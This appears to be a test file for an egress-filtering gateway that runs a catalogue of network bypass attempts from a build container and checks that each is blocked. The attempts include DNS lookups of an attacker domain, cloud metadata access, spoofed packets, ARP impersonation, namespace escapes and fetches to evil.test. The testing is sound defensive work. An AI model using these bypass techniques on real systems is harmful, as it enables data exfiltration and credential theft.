// Ways around the gateway from inside a build's container, with the capabilities that an engine gives by default.
import { dirname } from 'node:path'
import t, { type Test } from 'tap'
import { openLab, type Lab } from '../lab/lab.ts'
import { metadataSecret } from '../lab/services/metadata.ts'
import { attackFile, toldBy } from '../netns/network-attacks.ts'
import { labRoots, openProject, type ComposeProject } from './compose-project.ts'
import type { Engine } from './engine/engine.ts'
import { openProductEngine } from './engine/product-engine.ts'
import { whyNoDocker } from './engine/requirements.ts'

t.setTimeout(400_000)

/** Ids of bypasses.md and a sentence; the attack; what it is told in block mode, where that is worth knowing. */
type Try = readonly [sentence: string, attack: string, told?: unknown]

const noService = /^(?!.*(?:service|metrics|tidegate_)).*$/

const tries: readonly Try[] = [
  ['N1 a literal', 'tcp TARGET 31337', 'ECONNRESET'],
  ['D7 the engine’s own resolver', 'udp 127.0.0.11 53', 'ECONNREFUSED'],
  ['D1 DNS elsewhere', 'udp 203.0.113.53 53'],
  ['D4 a name of the attacker’s', 'shell dig +time=1 +tries=1 loot.evil.test | grep -c NXDOMAIN', '0 1'],
  ['N3 IPv6', 'tcp6 2001:db8:66::66 443', /ENETUNREACH|EADDRNOTAVAIL/],
  ['N3 IPv6 in a frame', 'v6-udp'],
  ['N4 an ICMP packet', 'icmp 13'],
  ['N5 every IP protocol there is', 'protocols'],
  ['N6 a datagram in fragments', 'fragments'],
  ['N7 UDP from the machine’s own address', 'spoofed-udp 192.0.2.10'],
  ['N7 UDP from the gateway’s end of the wire', 'spoofed-udp GATEWAY'],
  ['N7 a VLAN tag', 'vlan 5'],
  ['N7 a frame that bridges pass on', 'lldp'],
  ['N7 ARP: the job claims to be the router', 'arp-claim 192.0.2.1'],
  ['N8 a marked socket', 'marked 0x1 TARGET 443', /ECONNRESET|EPERM/],
  ['N8 a marked UDP socket', 'udp-marked TARGET 443', /ECONNREFUSED|EPERM/],
  ['N9 the gateway’s own user', 'as-ids 65532 65532 TARGET 31338', 'ECONNRESET'],
  ['N9 nobody', 'as-ids 65534 65534 TARGET 31338', 'ECONNRESET'],
  ['N10 another route', 'shell ip route add 192.0.2.0/24 dev eth0 2>&1', /^[1-9]/],
  ['N11 a network namespace of its own', 'shell unshare -n true 2>&1', /^[1-9]/],
  ['N11 the same in a user namespace', 'shell unshare -Urn curl -sm2 http://203.0.113.66/ 2>&1', /^[1-9]/],
  ['N16 metadata', 'tcp 169.254.169.254 80'],
  ['N16 Azure’s wire server', 'tcp 168.63.129.16 32526', 'ECONNRESET'],
  ['N17 a neighbour that is a proxy', 'tcp 192.0.2.20 3128', 'ECONNRESET'],
  ['N18 the metrics on the gateway’s link address', 'tcp GATEWAY 9464', 'ECONNRESET'],
  ['N18 the gateway’s DNS server on its own port', 'udp GATEWAY 5353', 'ECONNREFUSED'],
]

const mounted = `
    image: lab/tools
    volumes: ['${dirname(attackFile)}:/attacks:ro']
`

function override(more = ''): string {
  return `services:
  build:${mounted}${more}${labRoots}`
}

function policyOf(mode: 'block' | 'audit', allow: readonly string[] = []): string {
  return `version: 1
mode: ${mode}
allow: ${JSON.stringify(allow)}
tls: { extraCa: [/etc/tidegate/lab-ca.pem] }
`
}

async function attack(project: ComposeProject, attacks: readonly string[], options: readonly string[] = []) {
  const script = '/attacks/network-attacks.py'
  return project.compose(['run', '--rm', '--no-TTY', ...options, 'build', 'python3', script, ...attacks])
}

/** What left the machine towards anywhere but the resolver. */
async function left(lab: Lab): Promise<readonly string[]> {
  const packets = await lab.uplink.packets(({ destination }) => destination !== lab.addresses.resolver.v4)
  return packets.map(({ protocol, destination, destinationPort }) => `${protocol} ${destination} ${destinationPort}`)
}

async function addressOfGateway(engine: Engine, project: string): Promise<string> {
  const format = '{{range .NetworkSettings.Networks}}{{.IPAddress}} {{.Gateway}}{{end}}'
  return (await engine.docker(['inspect', '--format', format, `${project}-gateway-1`])).stdout.trim()
}

function check(t: Test, list: readonly Try[], told: readonly unknown[], isBlock: boolean): void {
  t.equal(told.length, list.length, 'all were tried')
  for (const [index, [sentence, name, expected]] of list.entries()) {
    if (isBlock && expected !== undefined) t.match(told[index], expected, `${sentence}: ${name}`)
    else t.notMatch(told[index], metadataSecret, `${sentence}: ${name}`)
  }
}

t.test('a build’s container', { skip: whyNoDocker() }, async t => {
  await using lab = await openLab({ services: ['origins', 'metadata', 'neighbour'] })
  await using engine = await openProductEngine(lab)

  await t.test('block: no attack reaches anything', async t => {
    await using project = openProject(lab, engine, 'block', { policy: policyOf('block'), override: override() })
    t.equal((await project.compose(['up', '--detach', '--wait', 'init'])).exitCode, 0)
    const [gateway = '', router = ''] = (await addressOfGateway(engine, 'block')).split(' ')
    const list: readonly Try[] = [
      ...tries,
      ['N18 the metrics on the gateway’s uplink', `tcp ${gateway} 9464`, noService],
      ['N17 the machine on the gateway’s network', `tcp ${router} 22`, 'ECONNRESET'],
    ]
    await lab.uplink.clear()
    const { stdout, stderr } = await attack(
      project,
      list.map(([, name]) => name),
    )
    t.comment(stderr.slice(0, 2_000))
    check(t, list, toldBy(stdout), true)
    t.strictSame(await left(lab), [], 'nothing left the machine')
    t.strictSame(await lab.sink.lines(), [])
    t.strictSame(await lab.dns.queries({ under: 'evil.test' }), [], 'D4 the zone’s server was asked nothing')
  })

  await t.test('audit: only what a rule could allow leaves, and the gateway alone sends it', async t => {
    await using project = openProject(lab, engine, 'audit', { policy: policyOf('audit'), override: override() })
    t.equal((await project.compose(['up', '--detach', '--wait', 'init'])).exitCode, 0)
    const [gateway = ''] = (await addressOfGateway(engine, 'audit')).split(' ')
    const never = tries.filter(([sentence]) => /^N(?:3|5|6|7|10|11|18) /.test(sentence))
    await lab.uplink.clear()
    const { stdout, stderr } = await attack(
      project,
      never.map(([, name]) => name),
    )
    t.comment(stderr.slice(0, 2_000))
    check(t, never, toldBy(stdout), false)
    const strange = (await lab.uplink.packets()).filter(
      ({ protocol, source, fragment }) => !['tcp', 'udp'].includes(protocol) || source !== '192.0.2.10' || fragment,
    )
    t.strictSame(strange, [], `only what the gateway (${gateway}) sends by itself left the machine`)
  })

  await t.test('N20: a build that starts before the wire has no network', async t => {
    await using project = openProject(lab, engine, 'early', { policy: policyOf('audit'), override: override() })
    t.equal((await project.compose(['up', '--detach', '--wait', 'net'])).exitCode, 0)
    await lab.uplink.clear()
    const { stdout } = await attack(
      project,
      ['tcp TARGET 443', 'udp TARGET 443', 'tcp6 2001:db8:66::66 443'],
      ['--no-deps'],
    )
    for (const told of toldBy(stdout)) t.match(told, /ENETUNREACH|EADDRNOTAVAIL/)
    t.strictSame(await lab.uplink.packets(), [])
  })

  await t.test(
    'N21: with the gateway killed nothing passes; a new one takes the job again, and the old record shows the cut',
    async t => {
      const policy = policyOf('audit')
      await using project = openProject(lab, engine, 'killed', { policy, override: override() })
      t.equal((await project.compose(['up', '--detach', '--wait', 'init'])).exitCode, 0)
      const before = await attack(project, ['shell curl -sS -o /dev/null -w %{http_code} http://api.acme.test/bytes/3'])
      t.match(toldBy(before.stdout), ['0 200'], before.stderr)

      t.equal((await project.compose(['kill', '--signal', 'KILL', 'gateway'])).exitCode, 0)
      await lab.uplink.clear()
      const during = await attack(
        project,
        ['tcp TARGET 443', 'udp TARGET 443', 'lldp', 'tcp 198.51.100.10 80'],
        ['--no-deps'],
      )
      t.equal(toldBy(during.stdout).length, 4, during.stderr)
      t.strictSame(await lab.uplink.packets(), [], 'nothing left the machine')

      const again = await project.compose(['up', '--detach', '--wait', '--force-recreate', 'gateway', 'init'])
      t.equal(again.exitCode, 0, again.stderr)
      const after = await attack(project, ['shell curl -sS -o /dev/null -w %{http_code} http://api.acme.test/bytes/4'])
      t.match(toldBy(after.stdout), ['0 200'], after.stderr)
      const verify = `for log in /var/log/tidegate/build/2*; do tidegate verify $log; echo $?; done`
      const verified = await project.compose(['run', '--rm', '--no-TTY', 'report', 'sh', '-c', verify])
      t.match(verified.stderr, 'intact so far, but not sealed', 'what was written before the kill holds')
    },
  )

  await t.test('N12: what a network inside the job sends crosses the wire like everything else', async t => {
    const nested = `
      unshare --net sleep 100 &
      sleep 0.3
      ip link add inside type veth peer name eth9 netns $!
      ip addr add 172.30.0.1/24 dev inside && ip link set inside up
      nsenter --target=$! --net sh -c 'ip addr add 172.30.0.2/24 dev eth9; ip link set eth9 up; ip link set lo up; ip route add default via 172.30.0.1'
      nft 'add table ip n; add chain ip n p { type nat hook postrouting priority 100; }; add rule ip n p oifname eth0 masquerade'
      nsenter --target=$! --net node /project/nested.mjs
      kill $!
    `
    const script = `
import { connect } from 'node:net'
const tell = async (what, url) => console.log(what, await fetch(url, { signal: AbortSignal.timeout(5000) }).then(r => r.status, e => e.cause?.code ?? e.name))
await tell('allowed', 'http://api.acme.test/echo')
await tell('refused', 'http://evil.test/')
await tell('literal', 'http://203.0.113.66/')
connect(31337, '203.0.113.66').on('error', e => console.log('port', e.code)).on('connect', () => console.log('port open'))
`
    const policy = policyOf('block', ['http://api.acme.test'])
    await using project = openProject(lab, engine, 'nested', {
      policy,
      files: { 'nested.mjs': script, 'nested.sh': nested },
      override: `services:
  net: { sysctls: { net.ipv4.ip_forward: 1 } }
  build:
    image: tidegate:test
    user: '0'
    cap_add: [NET_ADMIN, SYS_ADMIN]
    security_opt: ['seccomp:unconfined', 'apparmor:unconfined']
    healthcheck: { disable: true }
    volumes: ['.:/project:ro']
${labRoots}`,
    })
    await lab.uplink.clear()
    const { stdout, stderr } = await project.compose([
      'run',
      '--rm',
      '--no-TTY',
      'build',
      'sh',
      '-e',
      '/project/nested.sh',
    ])
    t.match(stdout, 'allowed 200', stderr)
    t.match(stdout, 'refused ENOTFOUND')
    t.match(stdout, 'literal 403')
    t.match(stdout, 'port ECONNRESET')
    t.strictSame(await lab.sink.lines(), [])
  })
})
